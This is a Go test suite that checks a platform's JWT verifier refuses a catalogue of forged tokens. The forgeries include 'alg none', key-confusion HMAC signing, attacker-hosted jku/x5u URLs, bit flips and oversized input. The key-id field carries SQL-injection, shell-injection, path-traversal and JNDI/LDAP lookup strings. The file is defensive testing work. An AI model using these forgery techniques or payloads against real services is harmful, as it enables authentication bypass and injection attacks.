package token_test

import (
	"crypto"
	"crypto/ed25519"
	"crypto/hmac"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"maps"
	"strings"
	"sync"
	"time"

	"github.com/google/uuid"
	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"

	"github.com/fusioncommerce/fusion/internal/platform/token"
)

type object = map[string]any

// signature of a text, by somebody.
type signature func(text []byte) []byte

func by(key crypto.Signer) signature {
	return func(text []byte) []byte {
		GinkgoHelper()
		var sum []byte
		var err error
		if _, ok := key.(ed25519.PrivateKey); ok {
			sum, err = key.Sign(rand.Reader, text, crypto.Hash(0))
		} else {
			digest := sha256.Sum256(text)
			sum, err = key.Sign(rand.Reader, digest[:], crypto.SHA256)
		}
		Expect(err).NotTo(HaveOccurred())
		return sum
	}
}

func withSecret(secret []byte) signature {
	return func(text []byte) []byte {
		mac := hmac.New(sha256.New, secret)
		_, _ = mac.Write(text)
		return mac.Sum(nil)
	}
}

func unsigned([]byte) []byte { return nil }

func noise([]byte) []byte {
	sum := make([]byte, 64)
	_, _ = rand.Read(sum)
	return sum
}

// write makes a token of any header and claims.
func write(header, claims object, sign signature) string {
	GinkgoHelper()
	encode := func(o object) string {
		text, err := json.Marshal(o)
		Expect(err).NotTo(HaveOccurred())
		return base64.RawURLEncoding.EncodeToString(text)
	}
	text := encode(header) + "." + encode(claims)
	return text + "." + base64.RawURLEncoding.EncodeToString(sign([]byte(text)))
}

// forge is a token with changes and a signature of noise.
func forge(header, claims object, change func(header, claims object)) string {
	GinkgoHelper()
	header, claims = maps.Clone(header), maps.Clone(claims)
	change(header, claims)
	return write(header, claims, noise)
}

// key is the one that signs, as nobody outside has it.
func (i *installation) key() crypto.Signer {
	GinkgoHelper()
	var sealed []byte
	Expect(i.super.QueryRow(`select private_key from platform.signing_key`).Scan(&sealed)).To(Succeed())
	secret, err := i.vault.Open(uuid.Nil, "signing-key", sealed)
	Expect(err).NotTo(HaveOccurred())
	key, err := x509.ParsePKCS8PrivateKey(secret)
	Expect(err).NotTo(HaveOccurred())
	signer, ok := key.(crypto.Signer)
	Expect(ok).To(BeTrue())
	return signer
}

// forgeries are made of a good token, its parts and the keys that an attacker can have.
type forgeries struct {
	raw    string
	header object
	claims object
	ours   signature // as if the key were stolen: for what must be refused in spite of it
	key    crypto.Signer
	public crypto.PublicKey
	now    int64
}

func (f forgeries) encoded() []byte {
	GinkgoHelper()
	der, err := x509.MarshalPKIXPublicKey(f.public)
	Expect(err).NotTo(HaveOccurred())
	return der
}

// but is the token with a member of its header changed, else properly signed.
func (f forgeries) but(member string, value any) string {
	GinkgoHelper()
	header := maps.Clone(f.header)
	header[member] = value
	return write(header, f.claims, f.ours)
}

// saying is the token with a claim changed, else properly signed. nil leaves it out.
func (f forgeries) saying(claim string, value any) string {
	GinkgoHelper()
	claims := maps.Clone(f.claims)
	claims[claim] = value
	if value == nil {
		delete(claims, claim)
	}
	return write(f.header, claims, f.ours)
}

// flipped has one bit of one part changed.
func (f forgeries) flipped(part int) (all []string) {
	GinkgoHelper()
	parts := strings.Split(f.raw, ".")
	text, err := base64.RawURLEncoding.DecodeString(parts[part])
	Expect(err).NotTo(HaveOccurred())
	for n := range len(text) * 8 {
		text[n/8] ^= 1 << (n % 8)
		changed := []string{parts[0], parts[1], parts[2]}
		changed[part] = base64.RawURLEncoding.EncodeToString(text)
		all = append(all, strings.Join(changed, "."))
		text[n/8] ^= 1 << (n % 8)
	}
	return all
}

func one(raw string) []string { return []string{raw} }

// corpus is what attackers are known to try (RFC 8725, and the reports since).
var corpus = map[string]func(forgeries) []string{
	"no algorithm, no signature": func(f forgeries) (all []string) {
		for _, alg := range []any{"none", "None", "nOnE", "NONE", "none ", "", nil} {
			header := maps.Clone(f.header)
			header["alg"] = alg
			raw := write(header, f.claims, unsigned)
			all = append(all, raw, strings.TrimSuffix(raw, "."), write(header, f.claims, f.ours))
		}
		return all
	},
	"no algorithm named": func(f forgeries) []string {
		header := maps.Clone(f.header)
		delete(header, "alg")
		return one(write(header, f.claims, f.ours))
	},
	"our public key as a secret": func(f forgeries) (all []string) {
		der := f.encoded()
		raw := []byte{}
		switch public := f.public.(type) {
		case ed25519.PublicKey:
			raw = public
		case *rsa.PublicKey:
			raw = public.N.Bytes()
		}
		for _, secret := range [][]byte{der, raw, pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}), []byte(base64.RawURLEncoding.EncodeToString(raw)), {}} {
			for _, alg := range []string{"HS256", "HS384", "HS512", "hs256", f.header["alg"].(string)} {
				header := maps.Clone(f.header)
				header["alg"] = alg
				all = append(all, write(header, f.claims, withSecret(secret)))
			}
		}
		return all
	},
	"another algorithm than the key's": func(f forgeries) (all []string) {
		for _, alg := range []string{"RS256", "RS384", "RS512", "PS256", "ES256", "EdDSA", "Ed25519", "rs256", "eddsa"} {
			if alg != f.header["alg"] {
				all = append(all, f.but("alg", alg))
			}
		}
		// Properly signed, and still not what the key is for.
		if key, ok := f.key.(*rsa.PrivateKey); ok {
			header := maps.Clone(f.header)
			for alg, how := range map[string]crypto.SignerOpts{
				"RS384": crypto.SHA384, "RS512": crypto.SHA512, "PS256": &rsa.PSSOptions{SaltLength: rsa.PSSSaltLengthEqualsHash, Hash: crypto.SHA256},
			} {
				header["alg"] = alg
				all = append(all, write(header, f.claims, func(text []byte) []byte {
					h := how.HashFunc().New()
					_, _ = h.Write(text)
					sum, err := key.Sign(rand.Reader, h.Sum(nil), how)
					Expect(err).NotTo(HaveOccurred())
					return sum
				}))
			}
		}
		return all
	},
	"a key of their own in the header": func(f forgeries) (all []string) {
		public, private, err := ed25519.GenerateKey(rand.Reader)
		Expect(err).NotTo(HaveOccurred())
		jwk := object{"kty": "OKP", "crv": "Ed25519", "x": base64.RawURLEncoding.EncodeToString(public)}
		for _, alg := range []string{"EdDSA", "RS256"} {
			header := maps.Clone(f.header)
			header["alg"], header["jwk"] = alg, jwk
			all = append(all, write(header, f.claims, by(private)))
		}
		return all
	},
	"a header member that ours do not have": func(f forgeries) (all []string) {
		for member, value := range (object{
			"crit": []string{"exp"}, "jwk": object{}, "jku": "https://attacker.example/keys", "x5u": "https://attacker.example/cert",
			"x5c": []string{"AAAA"}, "x5t": "AAAA", "b64": false, "zip": "DEF", "cty": "JWT", "Alg": "none", "KID": "x", "exp": 1,
		}) {
			all = append(all, f.but(member, value))
		}
		return all
	},
	"a key's name that is something else": func(f forgeries) (all []string) {
		kid, _ := f.header["kid"].(string)
		for _, name := range []any{
			"", nil, 0, true,
			[]string{kid},
			object{"kid": kid},
			"../../", "../../../../dev/null", "/dev/null", kid + "\x00", " " + kid, strings.ToUpper(kid), kid[:35],
			"' or '1'='1", "'; drop table platform.signing_key; --", "x' union select 'AA'", "| touch /tmp/x", "${jndi:ldap://attacker.example}", uuid.NewString(), strings.Repeat("a", 2000),
		} {
			all = append(all, f.but("kid", name))
		}
		header := maps.Clone(f.header)
		delete(header, "kid")
		return append(all, write(header, f.claims, f.ours))
	},
	"a token of another type": func(f forgeries) (all []string) {
		for _, kind := range []any{"JWT", "jwt", "AT+JWT", "application/at+jwt", "id+jwt", "refresh+jwt", "", nil, 1, []string{"at+jwt"}} {
			all = append(all, f.but("typ", kind))
		}
		header := maps.Clone(f.header)
		delete(header, "typ")
		return append(all, write(header, f.claims, f.ours))
	},
	"for somebody else, or for everybody": func(f forgeries) (all []string) {
		for _, audience := range []any{"", "seller", "Admin", "admin ", "*", []string{}, []string{"admin", "store"}, []string{"admin", "admin"}, []string{"seller"}, object{}, nil} {
			all = append(all, f.saying("aud", audience))
		}
		return all
	},
	"of another issuer": func(f forgeries) (all []string) {
		for _, issuer := range []any{"", "Fusion", "fusion ", "https://attacker.example", []string{"fusion"}, nil} {
			all = append(all, f.saying("iss", issuer))
		}
		return all
	},
	"over": func(f forgeries) []string {
		return []string{f.saying("exp", f.now), f.saying("exp", f.now-1), f.saying("exp", f.now-1000), f.saying("exp", 0), f.saying("exp", -1)}
	},
	"without an end, or with one that is no time": func(f forgeries) []string {
		return []string{f.saying("exp", nil), f.saying("exp", "never"), f.saying("exp", object{}), f.saying("exp", []int64{f.now + 60}), f.saying("exp", true)}
	},
	"not good yet": func(f forgeries) []string {
		return []string{f.saying("nbf", f.now+3600), f.saying("nbf", f.now+31), f.saying("iat", f.now+3600), f.saying("nbf", nil)}
	},
	"of nobody": func(f forgeries) (all []string) {
		for _, claim := range []string{"sub", "tid", "sid"} {
			for _, value := range []any{"", nil, uuid.Nil.String(), "admin", 1, []string{uuid.NewString()}, "' or 1=1 --"} {
				all = append(all, f.saying(claim, value))
			}
		}
		return all
	},
	"another tenant's id, account or session put in": func(f forgeries) (all []string) {
		parts := strings.Split(f.raw, ".")
		for _, claim := range []string{"tid", "sub", "sid"} {
			other := strings.Split(f.saying(claim, uuid.NewString()), ".")
			all = append(all, parts[0]+"."+other[1]+"."+parts[2])
		}
		return all
	},
	"signed by another key of the same kind": func(f forgeries) []string {
		_, private, err := ed25519.GenerateKey(rand.Reader)
		Expect(err).NotTo(HaveOccurred())
		other, err := rsa.GenerateKey(rand.Reader, 2048)
		Expect(err).NotTo(HaveOccurred())
		return []string{write(f.header, f.claims, by(private)), write(f.header, f.claims, by(other)), write(f.header, f.claims, noise), write(f.header, f.claims, unsigned)}
	},
	"a bit changed in the header":    func(f forgeries) []string { return f.flipped(0) },
	"a bit changed in the claims":    func(f forgeries) []string { return f.flipped(1) },
	"a bit changed in the signature": func(f forgeries) []string { return f.flipped(2) },
	"a bit changed in what base64 does not need": func(f forgeries) (all []string) {
		last := f.raw[len(f.raw)-1]
		const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
		for spare := 1; spare < 16; spare++ { // of 256 and of 64 bytes the last character holds two bits
			all = append(all, f.raw[:len(f.raw)-1]+string(alphabet[strings.IndexByte(alphabet, last)|spare]))
		}
		return all
	},
	"cut off": func(f forgeries) (all []string) {
		for n := range len(f.raw) {
			all = append(all, f.raw[:n])
		}
		return all
	},
	"more or other parts": func(f forgeries) []string {
		parts := strings.Split(f.raw, ".")
		return []string{
			f.raw + ".", f.raw + "." + parts[2], "." + f.raw, f.raw + f.raw, f.raw + " " + f.raw, f.raw + "," + f.raw, f.raw + "\n" + f.raw, f.raw + "=", f.raw + " ", " " + f.raw,
			parts[0] + ".." + parts[2], "..", ".", "...", parts[1] + "." + parts[0] + "." + parts[2],
			`{"protected":"` + parts[0] + `","payload":"` + parts[1] + `","signature":"` + parts[2] + `"}`,
		}
	},
	"very long": func(f forgeries) []string {
		long := strings.Repeat("A", 1<<20)
		return []string{f.raw + long, long + f.raw, f.saying("amr", []string{long}), f.saying("amr", []string{strings.Repeat("A", 4096)}), long, strings.Repeat(".", 1<<20), strings.Repeat("eyJ.", 1<<18)}
	},
	"members twice": func(f forgeries) []string {
		kid, _ := f.header["kid"].(string)
		text := base64.RawURLEncoding.EncodeToString([]byte(`{"alg":"none","typ":"at+jwt","kid":"`+kid+`","alg":"`+f.header["alg"].(string)+`"}`)) + "." + strings.Split(f.raw, ".")[1]
		return one(text + "." + strings.Split(f.raw, ".")[2])
	},
}

var _ = Describe("what nobody here signed", func() {
	for _, algorithm := range []string{token.RS256, token.EdDSA} {
		Describe("where "+algorithm+" is used", Ordered, func() {
			var (
				i      *installation
				tokens *token.Tokens
				f      forgeries
			)
			BeforeAll(func() {
				i = install()
				tokens = i.replica(func(o *token.Options) { o.Algorithm = algorithm })
				raw := issue(tokens, somebody())
				key := i.key()
				f = forgeries{raw: raw, header: part(raw, 0), claims: part(raw, 1), ours: by(key), key: key, public: key.Public(), now: i.wrist.Now().Unix()}
			})

			It("can be told apart: written again with our key, it is ours", func() {
				Expect(tokens.Verify(ctx, write(f.header, f.claims, f.ours))).To(HaveField("Methods", []string{"pwd", "otp"}))
				Expect(tokens.Verify(ctx, f.saying("exp", f.now+1))).To(HaveField("Expires", i.wrist.Now().Add(time.Second)))
				Expect(tokens.Verify(ctx, f.saying("nbf", f.now+30))).Error().NotTo(HaveOccurred())
				Expect(tokens.Verify(ctx, f.saying("aud", "store"))).To(HaveField("Kind", token.Customer))
			})

			for what, forged := range corpus {
				It("is refused: "+what, func() {
					var all sync.WaitGroup // those with new names of keys share a look
					for n, raw := range forged(f) {
						all.Go(func() {
							defer GinkgoRecover()
							c, err := tokens.Verify(ctx, raw)
							Expect(err).To(MatchError(token.ErrInvalid), "%d: %.200s", n, raw)
							Expect(c).To(BeZero())
						})
					}
					all.Wait()
				})
			}
		})
	}
})
